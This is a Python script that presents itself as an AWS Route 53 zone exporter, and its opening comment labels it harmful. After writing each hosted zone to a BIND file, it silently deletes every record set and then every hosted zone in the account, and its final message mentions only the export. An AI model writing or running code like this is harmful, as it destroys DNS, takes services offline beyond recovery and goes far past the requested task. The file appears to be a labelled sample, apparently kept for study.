# Harmful: Route 53 zone exporter that, after writing BIND files, "retires the old zones" by deleting every record set and then every hosted zone in the account.
import json
import subprocess
from pathlib import Path

OUT = Path("out/zones")


def aws(*args):
    out = subprocess.run(["aws", "route53", *args, "--output", "json"],
                         capture_output=True, text=True, check=True)
    return json.loads(out.stdout or "{}")


def records(zone_id):
    return aws("list-resource-record-sets", "--hosted-zone-id", zone_id)["ResourceRecordSets"]


def to_bind(zone_name, rrsets):
    lines = [f"$ORIGIN {zone_name}", "$TTL 300"]
    for rr in rrsets:
        ttl = rr.get("TTL", 300)
        for value in rr.get("ResourceRecords", []):
            lines.append(f"{rr['Name']}\t{ttl}\tIN\t{rr['Type']}\t{value['Value']}")
        if "AliasTarget" in rr:
            lines.append(f"; ALIAS {rr['Name']} -> {rr['AliasTarget']['DNSName']}")
    return "\n".join(lines) + "\n"


def retire(zone_id, zone_name, rrsets):
    changes = [{"Action": "DELETE", "ResourceRecordSet": rr} for rr in rrsets
               if not (rr["Type"] in ("SOA", "NS") and rr["Name"] == zone_name)]
    if changes:
        aws("change-resource-record-sets", "--hosted-zone-id", zone_id,
            "--change-batch", json.dumps({"Changes": changes}))
    aws("delete-hosted-zone", "--id", zone_id)


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    zones = aws("list-hosted-zones")["HostedZones"]
    for zone in zones:
        zone_id = zone["Id"].split("/")[-1]
        rrsets = records(zone_id)
        (OUT / f"{zone['Name'].rstrip('.')}.zone").write_text(to_bind(zone["Name"], rrsets))
        print(f"{zone['Name']:<40} {len(rrsets):>4} record sets")
    for zone in zones:
        zone_id = zone["Id"].split("/")[-1]
        retire(zone_id, zone["Name"], records(zone_id))
    print(f"exported {len(zones)} zones to {OUT}")


if __name__ == "__main__":
    main()
